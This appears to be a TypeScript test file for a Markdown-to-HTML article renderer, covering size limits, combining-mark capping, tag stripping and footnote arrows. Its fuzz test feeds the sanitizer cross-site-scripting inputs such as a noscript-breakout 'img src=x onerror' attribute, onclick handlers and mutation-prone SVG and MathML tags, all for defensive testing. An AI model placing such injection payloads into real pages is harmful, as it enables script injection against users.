    const markdown = `${repeat((i) => `x[^${i}] `, 1000)}\n\n${repeat((i) => `[^${i}]: y\n`, 1000)}`
    expect(articleOf({ title: 'Footnotes' }, markdown).html).toContain('[1000]')
    const table = `|1|2|3|4|5|6|7|8|\n|-|-|-|-|-|-|-|-|\n${rows}`
    expect(articleOf({ title: 'Table' }, table).html).toContain('<td>1999</td>')
    expect(articleOf({ title: 'Image' }, `![](/${'x'.repeat(1e6)})`).html.length).toBeGreaterThan(
      1e6,
    )
  })
})

test('marks on a letter are limited', () => {
  const marks = (count: number) => '\u0323'.repeat(count)
  const { title, html } = articleOf(
    { title: `a${marks(1000)}` },
    `b${'&#x323;'.repeat(1000)} c${marks(9)}`,
  )
  expect(title).toBe(`a${marks(30)}`)
  expect(html).toBe(`<p>b${marks(30)} c${marks(9)}</p>`)
})

describe('what is not text of the article does not become text', () => {
  test.each('script style template select textarea title'.split(' '))('%s', (tag) => {
    const { html, text } = articleOf({ title: 'Gone' }, `kept <${tag}>lost</${tag}> kept too`)
    expect(html + text).not.toContain('lost')
    expect(text).toMatch(/^kept +kept too$/)
  })
})

describe('any mixture of tags comes out harmless', () => {
  const parts =
    `p div a b i em strong table tr td th tbody caption ul li ol dl dt dd h1 blockquote pre button object marquee
    applet form select option textarea svg math mtext mglyph malignmark mi mo mrow mtable mtr mtd mfenced menclose maction semantics annotation foreignObject desc annotation-xml title style script noscript
    template iframe embed img br hr span section details summary ruby rt font nobr center frameset body html head xmp
    plaintext listing input video source col colgroup menu nobr address g text tspan rect use linearGradient switch
    image animate set a`.split(/\s+/)
  const attributes = [
    '',
    ' href=x',
    ' src=y',
    ' onclick=1',
    ' title="</noscript><img src=x onerror=1>"',
    ' id=q',
    ' href=#q',
    ' fill="url(#q)"',
    ' style="fill:url(//x.example/#q)"',
  ]
  const texts = ['text ', '\n', '<!--', '-->', '&lt;b&gt;', ']]>', '\n\n', '`', '|']

  test.each([1, 2, 3, 4, 5])('seed %i', (seed) => {
    const random = randomFrom(seed)
    const one = <T>(list: readonly T[]) => list[Math.floor(random() * list.length)]
    for (let run = 0; run < 200; run++) {
      let markdown = ''
      for (let length = random() * 12; length > 0; length--) {
        const kind = random()
        markdown +=
          kind < 0.5
            ? `<${one(parts)}${one(attributes)}>`
            : kind < 0.8
              ? `</${one(parts)}>`
              : one(texts)
      }
      const { html } = articleOf({ title: 'Mixture' }, markdown)
      expect(dangersIn(parse(html)), markdown).toEqual([])
    }
  })
})

test.each([
  ['en', '↩'],
  ['he', '↪'],
])('the link back from a footnote in %s is the arrow %s', (language, arrow) => {
  const { html } = articleOf({ language }, 'A ↩[^1].\n\n[^1]: The note ↩.')
  expect(html).toContain('The note ↩. <a')
  expect(html).toContain(`class="footnote-backref">${arrow}`)
})
